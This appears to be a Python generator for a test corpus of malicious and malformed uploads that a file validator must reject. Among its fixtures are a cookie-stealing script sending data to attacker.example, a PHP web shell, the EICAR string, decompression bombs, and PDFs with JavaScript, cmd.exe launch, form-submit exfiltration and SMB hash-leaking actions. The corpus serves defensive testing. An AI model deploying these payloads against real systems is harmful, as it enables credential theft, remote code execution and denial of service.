"""Write the corpus of files that outcomes.evidence must refuse, with expected.json and README.md.

    .venv/bin/python tests/outcomes/corpus/make_corpus.py

Deterministic: no clock, no randomness (pseudo-random bytes come from SHA-256 of a counter), fixed
ZIP timestamps and PDF file identifiers. Compressed files depend on the zlib and libjpeg builds,
so another machine may write slightly different bytes for the same case; either version must be
refused with the same code. Everything here is small on disk; the "bombs" expand only when
someone decodes them.

The test suite imports this module too (for CASES and the base files), so building a case
never writes anything: only main() does.
"""

from __future__ import annotations

import hashlib
import io
import json
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from unittest import mock

from PIL import Image

HERE = Path(__file__).resolve().parent
# Split so that this source file is not itself reported by a virus scanner.
EICAR = b"".join([b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$", b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"])


def pseudo_random(size: int, seed: bytes) -> bytes:
    out = bytearray()
    counter = 0
    while len(out) < size:
        out += hashlib.sha256(seed + counter.to_bytes(8, "big")).digest()
        counter += 1
    return bytes(out[:size])


def deflate(pieces: Iterator[bytes] | list[bytes]) -> bytes:
    """zlib-compress a sequence of pieces without holding their concatenation in memory."""
    compressor = zlib.compressobj(9)
    out = bytearray()
    for piece in pieces:
        out += compressor.compress(piece)
    return bytes(out + compressor.flush())


def repeated(piece: bytes, times: int, batch: int = 1024) -> Iterator[bytes]:
    for start in range(0, times, batch):
        yield piece * min(batch, times - start)


# -- Images ----------------------------------------------------------------------------------


def base_png() -> bytes:
    """A small genuine PNG, which evidence_check accepts."""
    image = Image.new("RGB", (32, 16))
    image.putdata([(x * 8, y * 16, 128) for y in range(16) for x in range(32)])
    out = io.BytesIO()
    image.save(out, format="PNG")
    return out.getvalue()


def base_jpeg() -> bytes:
    """A small genuine JPEG, which evidence_check accepts."""
    image = Image.new("RGB", (32, 16))
    image.putdata([(x * 8, y * 16, 128) for y in range(16) for x in range(32)])
    out = io.BytesIO()
    image.save(out, format="JPEG", quality=90)
    return out.getvalue()


def pillow(image: Image.Image, image_format: str) -> bytes:
    out = io.BytesIO()
    image.save(out, format=image_format)
    return out.getvalue()


PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int, height: int, idat: bytes, *, bit_depth: int = 8, colour_type: int = 0) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, bit_depth, colour_type, 0, 0, 0)
    return (
        PNG_SIGNATURE
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", idat)
        + png_chunk(b"IEND", b"")
    )


def one_colour_png(width: int, height: int) -> bytes:
    """A 1-bit black image: each row is a filter byte and width/8 zero bytes, so millions of
    pixels compress to kilobytes."""
    row = b"\x00" * (1 + (width + 7) // 8)
    return png(width, height, deflate(repeated(row, height)), bit_depth=1)


def jpeg_with_size(width: int, height: int) -> bytes:
    """The base JPEG with the size in its frame header (SOF0) replaced."""
    data = bytearray(base_jpeg())
    sof = data.index(b"\xff\xc0")
    data[sof + 5 : sof + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def jpeg_scan_flood() -> bytes:
    data = base_jpeg()
    scan = b"\xff\xda\x00\x0c\x03\x01\x00\x02\x11\x03\x11\x00\x3f\x00" + b"\x00" * 8
    return data[:-2] + scan * 150 + b"\xff\xd9"


def truncated_png() -> bytes:
    image = Image.frombytes("RGB", (64, 64), pseudo_random(64 * 64 * 3, b"truncated png"))
    data = pillow(image, "PNG")
    return data[: len(data) // 2]


def png_with_bad_header_checksum() -> bytes:
    data = bytearray(base_png())
    data[29] ^= 0xFF  # the last byte of the IHDR chunk's CRC
    return bytes(data)


# -- Other formats, by their signatures --------------------------------------------------------


def windows_exe() -> bytes:
    dos = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 44
    dos += struct.pack("<I", 0x80)  # e_lfanew: where the PE header is
    stub = b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21"
    stub += b"This program cannot be run in DOS mode.\r\r\n$"
    body = (dos + stub).ljust(0x80, b"\x00")
    return body + b"PE\x00\x00\x4c\x01\x01\x00" + b"\x00" * 240


def zip_archive(files: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            info = zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, content)
    return out.getvalue()


CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="xml" ContentType="application/xml"/>%s</Types>'
)


def docx() -> bytes:
    return zip_archive(
        {
            "[Content_Types].xml": CONTENT_TYPES
            % b'<Override PartName="/word/document.xml" ContentType="application/'
            b'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>',
            "word/document.xml": b'<w:document xmlns:w="http://schemas.openxmlformats.org/'
            b'wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Certificate</w:t></w:r>'
            b"</w:p></w:body></w:document>",
        }
    )


def xlsx() -> bytes:
    return zip_archive(
        {
            "[Content_Types].xml": CONTENT_TYPES
            % b'<Override PartName="/xl/workbook.xml" ContentType="application/'
            b'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>',
            "xl/workbook.xml": b'<workbook xmlns="http://schemas.openxmlformats.org/'
            b'spreadsheetml/2006/main"><sheets><sheet name="Grades" sheetId="1"/></sheets>'
            b"</workbook>",
        }
    )


HTML = (
    b"<!DOCTYPE html>\n<html><head><title>Certificate</title></head>\n"
    b"<body><script>document.location='https://attacker.example/?c='+document.cookie"
    b"</script></body></html>\n"
)
SVG = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(document.domain)</script><rect width='10' height='10'/></svg>\n"
)
PHP = b"<?php system($_GET['c']); ?>\n"


# -- PDF -------------------------------------------------------------------------------------

PDF_HEADER = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
CONTENT = b"BT /F1 24 Tf 72 760 Td (Certificate of completion) Tj ET"


def stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n%s\nendstream" % (len(data), extra, data)


def flate_stream(data: bytes, extra: bytes = b"") -> bytes:
    return stream(zlib.compress(data, 9), b"/Filter /FlateDecode " + extra)


def objects(
    *, catalog: bytes = b"", page: bytes = b"", content: bytes = CONTENT
) -> dict[int, bytes]:
    """The objects of a one-page PDF, numbered from 1; further objects take 6 onwards."""
    return {
        1: b"<< /Type /Catalog /Pages 2 0 R " + catalog + b">>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> " + page + b">>",
        4: stream(content),
        5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    }


def build_pdf(
    numbered: dict[int, bytes],
    *,
    compressed: dict[int, bytes] | None = None,
    trailer: bytes = b"",
    header: bytes = PDF_HEADER,
    after_eof: bytes = b"",
) -> bytes:
    """A PDF with a correct cross-reference table, or, when some objects are ``compressed``
    into an object stream, a cross-reference stream (PDF 1.5), which is the only kind that can
    point into one."""
    out = bytearray(header)
    offsets: dict[int, int] = {}
    for number in sorted(numbered):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, numbered[number])
    if not compressed:
        size = max(numbered) + 1
        xref = len(out)
        out += b"xref\n0 %d\n0000000000 65535 f \n" % size
        for number in range(1, size):
            if number in offsets:
                out += b"%010d 00000 n \n" % offsets[number]
            else:
                out += b"0000000000 65535 f \n"
        out += b"trailer\n<< /Size %d /Root 1 0 R %s>>\n" % (size, trailer)
        out += b"startxref\n%d\n%%%%EOF\n" % xref
        return bytes(out) + after_eof
    # The object stream, then the cross-reference stream.
    stream_number = max([*numbered, *compressed]) + 1
    xref_number = stream_number + 1
    heads, bodies = [], bytearray()
    for number in sorted(compressed):
        heads.append(b"%d %d" % (number, len(bodies)))
        bodies += compressed[number] + b"\n"
    first = b" ".join(heads) + b"\n"
    offsets[stream_number] = len(out)
    out += b"%d 0 obj\n%s\nendobj\n" % (
        stream_number,
        flate_stream(first + bodies, b"/Type /ObjStm /N %d /First %d " % (len(heads), len(first))),
    )
    offsets[xref_number] = len(out)
    rows = bytearray(struct.pack(">BIH", 0, 0, 65535))
    index = {number: i for i, number in enumerate(sorted(compressed))}
    for number in range(1, xref_number + 1):
        if number in offsets:
            rows += struct.pack(">BIH", 1, offsets[number], 0)
        elif number in index:
            rows += struct.pack(">BIH", 2, stream_number, index[number])
        else:
            rows += struct.pack(">BIH", 0, 0, 0)
    out += b"%d 0 obj\n%s\nendobj\n" % (
        xref_number,
        stream(
            bytes(rows),
            b"/Type /XRef /Size %d /W [1 4 2] /Root 1 0 R %s" % (xref_number + 1, trailer),
        ),
    )
    out += b"startxref\n%d\n%%%%EOF\n" % offsets[xref_number]
    return bytes(out) + after_eof


def base_pdf() -> bytes:
    """A small genuine PDF, which evidence_check accepts."""
    return build_pdf(objects())


def pdf_with(
    *, catalog: bytes = b"", page: bytes = b"", more: dict[int, bytes] | None = None
) -> bytes:
    return build_pdf({**objects(catalog=catalog, page=page), **(more or {})})


def js_action(script: bytes = b"app.alert('hello')") -> bytes:
    return b"<< /Type /Action /S /JavaScript /JS (%s) >>" % script


def annotation(body: bytes) -> dict[int, bytes]:
    """A page with one annotation, object 6."""
    return {
        **objects(page=b"/Annots [6 0 R] "),
        6: b"<< /Type /Annot /Rect [72 72 300 100] " + body + b">>",
    }


def encrypted_pdf(user_password: str, algorithm: str = "RC4-128") -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(base_pdf())))
    # pypdf draws the file identifier from secrets; a fixed one keeps the file the same.
    with mock.patch("secrets.token_bytes", lambda n: b"\x5a" * n):
        writer.encrypt(user_password, owner_password="owner-secret", algorithm=algorithm)
        out = io.BytesIO()
        writer.write(out)
    return out.getvalue()


def certificate_encrypted_pdf() -> bytes:
    """Encrypted for the holders of certain certificates (public-key security), a handler
    pypdf cannot read."""
    return build_pdf(
        {
            **objects(),
            6: b"<< /Filter /Adobe.PubSec /SubFilter /adbe.pkcs7.s5 /V 4 /R 4 "
            b"/Recipients [<30820122>] /Length 128 >>",
        },
        trailer=b"/Encrypt 6 0 R /ID [<00112233445566778899aabbccddeeff> "
        b"<00112233445566778899aabbccddeeff>] ",
    )


def page_tree(kids_of_pages: bytes) -> bytes:
    return build_pdf({**objects(), 2: b"<< /Type /Pages /Kids [%s] /Count 1 >>" % kids_of_pages})


def two_node_loop() -> bytes:
    return build_pdf(
        {
            **objects(),
            2: b"<< /Type /Pages /Kids [6 0 R 3 0 R] /Count 1 >>",
            6: b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>",
        }
    )


def page_tree_amplification(levels: int = 40) -> bytes:
    """Each node lists the next one twice: 2^40 pages to whoever trusts the tree."""
    numbered = objects()
    first = 6
    numbered[2] = b"<< /Type /Pages /Kids [%d 0 R %d 0 R] /Count 1 >>" % (first, first)
    for level in range(levels):
        number = first + level
        if level == levels - 1:
            numbered[number] = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
        else:
            numbered[number] = b"<< /Type /Pages /Kids [%d 0 R %d 0 R] /Count 2 >>" % (
                number + 1,
                number + 1,
            )
    return build_pdf(numbered)


def many_pages(count: int) -> bytes:
    first = 6
    numbered = objects()
    kids = b" ".join(b"%d 0 R" % (first + i) for i in range(count))
    numbered[2] = b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count)
    for i in range(count):
        numbered[first + i] = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"
    return build_pdf(numbered)


def flate_bomb_pdf(megabytes: int, *, ascii_hex: bool = False) -> bytes:
    """A content stream of a few hundred kilobytes that inflates to ``megabytes`` MiB."""
    bomb = deflate(repeated(b"\x00" * 1024 * 1024, megabytes, batch=1))
    numbered = objects()
    if ascii_hex:
        numbered[4] = stream(bomb.hex().encode() + b">", b"/Filter [/AHx /FlateDecode] ")
    else:
        numbered[4] = stream(bomb, b"/Filter /FlateDecode ")
    return build_pdf(numbered)


def object_stream_bombs(*megabytes: int) -> bytes:
    """One object stream per entry, each holding one small object and then inflating to that
    many MiB of whitespace."""
    first = 6
    count = len(megabytes)
    extra = b" ".join(b"%d 0 R" % (first + i) for i in range(count))
    numbered = objects(catalog=b"/Extra [" + extra + b"] ")
    out = bytearray(PDF_HEADER)
    offsets = {}
    for number in sorted(numbered):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, numbered[number])
    streams = {}  # object number -> its object stream's number
    for i, size in enumerate(megabytes):
        number, stream_number = first + i, first + count + i
        streams[number] = stream_number
        head = b"%d 0\n" % number
        padded = deflate([head, b"<< /Padding true >>\n", *repeated(b" " * 1024 * 1024, size, 1)])
        offsets[stream_number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (
            stream_number,
            stream(padded, b"/Filter /FlateDecode /Type /ObjStm /N 1 /First %d " % len(head)),
        )
    xref_number = first + 2 * count
    offsets[xref_number] = len(out)
    rows = bytearray(struct.pack(">BIH", 0, 0, 65535))
    for number in range(1, xref_number + 1):
        if number in streams:
            rows += struct.pack(">BIH", 2, streams[number], 0)
        else:
            rows += struct.pack(">BIH", 1, offsets[number], 0)
    out += b"%d 0 obj\n%s\nendobj\n" % (
        xref_number,
        stream(bytes(rows), b"/Type /XRef /Size %d /W [1 4 2] /Root 1 0 R " % (xref_number + 1)),
    )
    out += b"startxref\n%d\n%%%%EOF\n" % offsets[xref_number]
    return bytes(out)


def too_many_objects() -> bytes:
    """Three arrays of 80,000 empty arrays each, in an object stream of a few kilobytes."""
    big = b"[" + b"[]" * 80_000 + b"]"
    return build_pdf(
        objects(catalog=b"/Extra [6 0 R 7 0 R 8 0 R] "), compressed={6: big, 7: big, 8: big}
    )


def nested_arrays(depth: int = 50_000) -> bytes:
    return pdf_with(page=b"/Nested " + b"[" * depth + b"]" * depth + b" ")


def appended_after_eof(addition: bytes) -> bytes:
    """The base PDF with ``addition`` after its end, closed like an incremental update that
    forgot its cross-reference section: readers that follow the table never see it."""
    data = base_pdf()
    xref = data[data.rindex(b"startxref") :].split()[1]
    return data + addition + b"startxref\n" + xref + b"\n%%EOF\n"


def polyglot_pdf_zip() -> bytes:
    return base_pdf() + zip_archive({"payload.html": HTML, "run.js": b"alert(1)\n"})


# -- The cases -------------------------------------------------------------------------------


@dataclass(frozen=True)
class Case:
    filename: str
    code: str
    why: str
    build: Callable[[], bytes]


def _cases() -> list[Case]:
    pdf_base = base_pdf
    js = js_action()
    return [
        # Not a PDF, JPEG or PNG, whatever the name says.
        Case("html-as-certificate.pdf", "type", "an HTML page with a script", lambda: HTML),
        Case("windows-exe-as-photo.jpg", "type", "a Windows executable (MZ/PE)", windows_exe),
        Case(
            "gif-as-image.png",
            "type",
            "a GIF: not an accepted format",
            lambda: pillow(Image.new("P", (8, 8)), "GIF"),
        ),
        Case("svg-with-script-as-image.png", "type", "SVG is XML and runs scripts", lambda: SVG),
        Case(
            "zip-as-transcript.pdf",
            "type",
            "a ZIP archive",
            lambda: zip_archive({"a.html": HTML}),
        ),
        Case("grades.xlsx", "type", "an Excel workbook (a ZIP archive)", xlsx),
        Case("letter.docx", "type", "a Word document (a ZIP archive)", docx),
        Case("x.jpg.php", "type", "a PHP script with a double extension", lambda: PHP),
        Case(
            "php-as-photo.jpg",
            "type",
            "a PHP script named as a photo",
            lambda: PHP + b"\xff\xd8\xff\xe0",
        ),
        Case(
            "random-bytes-as-scan.pdf",
            "type",
            "64 KiB of pseudo-random bytes",
            lambda: b"\x00" + pseudo_random(65_535, b"random"),
        ),
        Case("nul-bytes.pdf", "type", "4 KiB of NUL bytes", lambda: b"\x00" * 4096),
        Case(
            "utf16-text-as-certificate.pdf",
            "type",
            "UTF-16 text with a byte order mark",
            lambda: "\ufeffCertificate of completion\n".encode("utf-16-le"),
        ),
        Case(
            "plain-text-as-photo.jpg",
            "type",
            "plain text",
            lambda: b"This is my certificate.\n",
        ),
        Case(
            "bmp-as-image.png",
            "type",
            "a Windows bitmap",
            lambda: pillow(Image.new("RGB", (8, 8)), "BMP"),
        ),
        Case(
            "tiff-as-scan.jpg",
            "type",
            "a TIFF image",
            lambda: pillow(Image.new("RGB", (8, 8)), "TIFF"),
        ),
        Case(
            "webp-as-photo.jpg",
            "type",
            "a WebP image (RIFF container)",
            lambda: b"RIFF\x24\x00\x00\x00WEBPVP8 \x18\x00\x00\x00" + b"\x00" * 24,
        ),
        Case(
            "heic-as-photo.jpg",
            "type",
            "a HEIC photo, as iPhones take them",
            lambda: b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + b"\x00" * 64,
        ),
        Case(
            "icon-as-image.png",
            "type",
            "a Windows icon",
            lambda: pillow(Image.new("RGB", (16, 16)), "ICO"),
        ),
        Case(
            "jpeg2000-as-image.png",
            "type",
            "a JPEG 2000 image",
            lambda: b"\x00\x00\x00\x0cjP  \r\n\x87\n" + b"\x00" * 64,
        ),
        Case(
            "postscript-as-certificate.pdf",
            "type",
            "PostScript, a programming language",
            lambda: b"%!PS-Adobe-3.0\n/Helvetica findfont 24 scalefont setfont\nshowpage\n",
        ),
        Case(
            "rtf-as-certificate.pdf",
            "type",
            "a Rich Text document",
            lambda: b"{\\rtf1\\ansi Certificate\\par}\n",
        ),
        Case(
            "gzip-as-certificate.pdf",
            "type",
            "a gzip-compressed PDF",
            lambda: b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff" + zlib.compress(base_pdf())[2:],
        ),
        Case(
            "elf-as-image.png",
            "type",
            "a Linux executable",
            lambda: b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56,
        ),
        Case(
            "html-then-pdf-polyglot.pdf",
            "type",
            "an HTML page with a PDF after it; viewers find a PDF header anywhere in the "
            "first 1024 bytes, browsers see HTML",
            lambda: b"<html><script>alert(1)</script><!--\n" + base_pdf(),
        ),
        Case(
            "utf8-bom-then-pdf.pdf",
            "type",
            "a PDF must start with %PDF-, not a byte order mark",
            lambda: b"\xef\xbb\xbf" + base_pdf(),
        ),
        Case(
            "pdf-header-without-dash.pdf",
            "type",
            "%PDF1.7 is not the PDF signature",
            lambda: base_pdf().replace(b"%PDF-", b"%PDF", 1),
        ),
        Case(
            "lower-case-pdf-header.pdf",
            "type",
            "%pdf- is not the PDF signature",
            lambda: base_pdf().replace(b"%PDF-", b"%pdf-", 1),
        ),
        Case(
            "pdf-zip-polyglot.pdf",
            "type",
            "a valid PDF that is also a ZIP archive (stored as uploaded, it would be both)",
            polyglot_pdf_zip,
        ),
        # The EICAR antivirus test string.
        Case(
            "eicar-as-certificate.pdf",
            "malware",
            "the EICAR test string in a text file",
            lambda: EICAR + b"\n",
        ),
        Case(
            "eicar-inside-valid.pdf",
            "malware",
            "an otherwise valid PDF with the EICAR string in its content stream",
            lambda: build_pdf({**objects(content=CONTENT + b"\n% " + EICAR)}),
        ),
        Case(
            "eicar-after-valid.png",
            "malware",
            "a valid PNG with the EICAR string after its end",
            lambda: base_png() + EICAR,
        ),
        # Damaged images, and images whose signature lies about what follows.
        Case(
            "png-signature-then-script.png",
            "corrupt",
            "a PNG signature followed by HTML",
            lambda: PNG_SIGNATURE + b"<script>alert(1)</script>\n",
        ),
        Case(
            "png-signature-only.png",
            "corrupt",
            "nothing after the signature",
            lambda: PNG_SIGNATURE,
        ),
        Case(
            "png-signature-then-jpeg.png",
            "corrupt",
            "a PNG signature in front of a JPEG",
            lambda: PNG_SIGNATURE + base_jpeg(),
        ),
        Case(
            "jpeg-magic-then-png.jpg",
            "corrupt",
            "JPEG magic bytes in front of a PNG",
            lambda: b"\xff\xd8\xff" + base_png(),
        ),
        Case(
            "jpeg-magic-only.jpg",
            "corrupt",
            "JPEG magic bytes and nothing else",
            lambda: b"\xff\xd8\xff",
        ),
        Case(
            "truncated.jpg",
            "corrupt",
            "the first half of a JPEG",
            lambda: base_jpeg()[: len(base_jpeg()) // 2],
        ),
        Case(
            "jpeg-without-end-marker.jpg",
            "corrupt",
            "a JPEG cut just before its end-of-image marker",
            lambda: base_jpeg()[:-2],
        ),
        Case(
            "truncated.png", "corrupt", "a PNG cut in the middle of its image data", truncated_png
        ),
        Case(
            "png-bad-header-checksum.png",
            "corrupt",
            "a PNG whose header chunk fails its CRC",
            png_with_bad_header_checksum,
        ),
        Case(
            "png-zero-width.png",
            "corrupt",
            "a PNG 0 pixels wide",
            lambda: png(0, 16, zlib.compress(b"\x00" * 16)),
        ),
        Case(
            "png-bad-bit-depth.png",
            "corrupt",
            "a PNG with bit depth 3, which does not exist",
            lambda: png(8, 8, zlib.compress(b"\x00" * 8 * 4), bit_depth=3),
        ),
        Case(
            "png-image-data-not-compressed.png",
            "corrupt",
            "a PNG whose image data is not zlib data",
            lambda: png(8, 8, b"<script>alert(1)</script>"),
        ),
        Case(
            "jpeg-scan-flood.jpg",
            "corrupt",
            "150 scan headers: decoding thousands of scans is a known denial of service",
            jpeg_scan_flood,
        ),
        Case(
            "jpeg-comment-flood.jpg",
            "corrupt",
            "5,000 empty comment segments before the image: Pillow reads markers one by one in "
            "Python, and millions take it seconds",
            lambda: base_jpeg()[:2] + b"\xff\xfe\x00\x02" * 5_000 + base_jpeg()[2:],
        ),
        Case(
            "jpeg-fill-byte-flood.jpg",
            "corrupt",
            "5,000 0xFF fill bytes before a marker, read one by one the same way",
            lambda: base_jpeg()[:2] + b"\xff" * 5_000 + base_jpeg()[2:],
        ),
        Case(
            "png-chunk-flood.png",
            "corrupt",
            "20,001 empty private chunks before the image data",
            lambda: base_png()[:33] + png_chunk(b"prVt", b"") * 20_001 + base_png()[33:],
        ),
        # Decompression bombs.
        Case(
            "pixel-bomb-20000x20000.png",
            "image_too_large",
            "400 million black pixels in 50 KB",
            lambda: one_colour_png(20_000, 20_000),
        ),
        Case(
            "png-8000x6000.png",
            "image_too_large",
            "48 million pixels: over our limit of 40 million, under Pillow's own",
            lambda: one_colour_png(8_000, 6_000),
        ),
        Case(
            "png-1x45000000-strip.png",
            "image_too_large",
            "a strip 45 million pixels long",
            lambda: one_colour_png(1, 45_000_000),
        ),
        Case(
            "jpeg-claims-65000x65000.jpg",
            "image_too_large",
            "a small JPEG whose header claims 4.2 billion pixels",
            lambda: jpeg_with_size(65_000, 65_000),
        ),
        Case(
            "jpeg-claims-7000x7000.jpg",
            "image_too_large",
            "a small JPEG whose header claims 49 million pixels",
            lambda: jpeg_with_size(7_000, 7_000),
        ),
        # Damaged PDFs.
        Case("just-the-magic.pdf", "corrupt", "%PDF- and nothing else", lambda: b"%PDF-"),
        Case(
            "header-and-eof-only.pdf",
            "corrupt",
            "a header and an end-of-file marker, nothing between",
            lambda: b"%PDF-1.7\n%%EOF\n",
        ),
        Case(
            "truncated.pdf",
            "corrupt",
            "the first 60% of a PDF",
            lambda: pdf_base()[: len(pdf_base()) * 6 // 10],
        ),
        Case(
            "pdf-header-then-html.pdf",
            "corrupt",
            "a PDF header in front of an HTML page",
            lambda: b"%PDF-1.4\n" + HTML + b"%%EOF\n",
        ),
        Case(
            "xref-broken-beyond-repair.pdf",
            "corrupt",
            "no objects, a garbage cross-reference table and a root that does not exist",
            lambda: (
                b"%PDF-1.7\nxref\n0 3\nthis is not a table\ntrailer\n<< /Size 3 /Root 9 0 R >>\n"
                b"startxref\n999999\n%%EOF\n"
            ),
        ),
        Case(
            "cyclic-page-tree.pdf",
            "corrupt",
            "the page tree lists itself as its own kid",
            lambda: page_tree(b"2 0 R 3 0 R"),
        ),
        Case(
            "page-tree-two-node-loop.pdf",
            "corrupt",
            "two page-tree nodes that are each other's kid",
            two_node_loop,
        ),
        Case(
            "page-tree-amplification.pdf",
            "corrupt",
            "each page-tree node lists the next twice: 2^40 pages to a naive reader",
            page_tree_amplification,
        ),
        Case(
            "missing-page-object.pdf",
            "corrupt",
            "the page tree points at an object that does not exist",
            lambda: page_tree(b"99 0 R"),
        ),
        Case("no-pages.pdf", "corrupt", "a page tree without pages", lambda: page_tree(b"")),
        Case(
            "deeply-nested-arrays.pdf",
            "corrupt",
            "50,000 nested arrays: recursive parsers overflow",
            nested_arrays,
        ),
        Case(
            "flate-bomb.pdf",
            "corrupt",
            "a 300 KB content stream that inflates to 300 MiB",
            lambda: flate_bomb_pdf(300),
        ),
        Case(
            "flate-bomb-in-ascii-hex.pdf",
            "corrupt",
            "the same bomb behind an ASCIIHexDecode filter",
            lambda: flate_bomb_pdf(300, ascii_hex=True),
        ),
        Case(
            "object-stream-bomb.pdf",
            "corrupt",
            "an object stream that inflates to 100 MiB",
            lambda: object_stream_bombs(100),
        ),
        Case(
            "object-stream-bombs.pdf",
            "corrupt",
            "three object streams of 30 MiB each: under pypdf's limit for one, over ours for all",
            lambda: object_stream_bombs(30, 30, 30),
        ),
        Case(
            "object-stream-token-flood.pdf",
            "corrupt",
            "an object stream of a few kilobytes holding three million numbers (in arrays "
            "each under pypdf's limit of elements), which pypdf would parse for ten seconds",
            lambda: build_pdf(
                objects(catalog=b"/Extra 6 0 R "),
                compressed={6: b"[" + (b"[" + b"0 " * 99_999 + b"]") * 30 + b"]"},
            ),
        ),
        Case(
            "too-many-objects.pdf",
            "corrupt",
            "240,000 arrays in a few kilobytes",
            too_many_objects,
        ),
        # Encrypted PDFs.
        Case(
            "encrypted-empty-user-password.pdf",
            "encrypted",
            "RC4-128, opens without a password but is encrypted all the same",
            lambda: encrypted_pdf(""),
        ),
        Case(
            "encrypted-with-password.pdf",
            "encrypted",
            "RC4-128 with a user password",
            lambda: encrypted_pdf("secret"),
        ),
        Case(
            "encrypted-aes-256.pdf",
            "encrypted",
            "AES-256 (PDF 2.0) with an empty user password",
            lambda: encrypted_pdf("", algorithm="AES-256"),
        ),
        Case(
            "encrypted-certificate-security.pdf",
            "encrypted",
            "public-key (certificate) security, /Adobe.PubSec, which pypdf cannot even open",
            certificate_encrypted_pdf,
        ),
        # Active content in PDFs.
        Case(
            "openaction-javascript.pdf",
            "active_content",
            "JavaScript run when the document opens (/OpenAction)",
            lambda: pdf_with(catalog=b"/OpenAction 6 0 R ", more={6: js}),
        ),
        Case(
            "names-tree-javascript.pdf",
            "active_content",
            "document-level JavaScript in the catalog's /Names tree",
            lambda: pdf_with(
                catalog=b"/Names << /JavaScript << /Names [(init) 6 0 R] >> >> ", more={6: js}
            ),
        ),
        Case(
            "page-additional-action-javascript.pdf",
            "active_content",
            "JavaScript run when the page opens (/AA /O on the page)",
            lambda: pdf_with(page=b"/AA << /O 6 0 R >> ", more={6: js}),
        ),
        Case(
            "catalog-additional-action-javascript.pdf",
            "active_content",
            "JavaScript run before the document closes (/AA /WC on the catalog)",
            lambda: pdf_with(catalog=b"/AA << /WC " + js + b" >> "),
        ),
        Case(
            "link-annotation-javascript.pdf",
            "active_content",
            "a link annotation whose action is JavaScript",
            lambda: build_pdf(annotation(b"/Subtype /Link /A " + js)),
        ),
        Case(
            "form-field-keystroke-javascript.pdf",
            "active_content",
            "a form field with a keystroke script (/AA /K)",
            lambda: build_pdf(
                {
                    **annotation(b"/Subtype /Widget /FT /Tx /T (name) /AA << /K 7 0 R >> "),
                    1: b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [6 0 R] >> >>",
                    7: js,
                }
            ),
        ),
        Case(
            "launch-action.pdf",
            "active_content",
            "/Launch runs a program",
            lambda: pdf_with(
                catalog=b"/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >> "
            ),
        ),
        Case(
            "embedded-files.pdf",
            "active_content",
            "a file in the catalog's /EmbeddedFiles name tree",
            lambda: pdf_with(
                catalog=b"/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >> ",
                more={
                    6: b"<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>",
                    7: stream(b"MZ", b"/Type /EmbeddedFile "),
                },
            ),
        ),
        Case(
            "file-attachment-annotation.pdf",
            "active_content",
            "a file attachment annotation",
            lambda: build_pdf(
                {
                    **annotation(b"/Subtype /FileAttachment /FS 7 0 R "),
                    7: b"<< /Type /Filespec /F (invoice.exe) /E" + b"F << /F 8 0 R >> >>",
                    8: stream(b"MZ", b"/Type /Embedded" + b"File "),
                }
            ),
        ),
        Case(
            "submit-form.pdf",
            "active_content",
            "/SubmitForm sends form data to a server",
            lambda: build_pdf(
                annotation(
                    b"/Subtype /Link /A << /S /SubmitForm /F << /FS /URL "
                    b"/F (https://attacker.example/collect) >> >> "
                )
            ),
        ),
        Case(
            "import-data.pdf",
            "active_content",
            "/ImportData loads form data from another file",
            lambda: pdf_with(catalog=b"/OpenAction << /S /ImportData /F (data.fdf) >> "),
        ),
        Case(
            "goto-remote.pdf",
            "active_content",
            "/GoToR opens another file (and leaks NTLM hashes over SMB paths)",
            lambda: build_pdf(
                annotation(
                    b"/Subtype /Link /A << /S /GoToR /F (\\\\\\\\attacker\\\\x.pdf) /D [0] >> "
                )
            ),
        ),
        Case(
            "goto-embedded.pdf",
            "active_content",
            "/GoToE opens an embedded document",
            lambda: build_pdf(
